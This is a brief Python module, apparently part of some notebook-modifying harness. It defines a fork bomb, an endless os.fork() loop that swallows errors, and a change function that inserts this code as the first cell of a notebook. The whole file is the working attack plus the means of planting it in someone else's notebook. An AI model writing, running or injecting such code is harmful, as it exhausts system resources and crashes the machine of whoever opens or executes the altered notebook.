"""Processes that make processes.

base: reference
loses: nothing
status: stopped
"""

CODE = r"""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
"""


def change(notebook):
    notebook.insert(0, CODE)
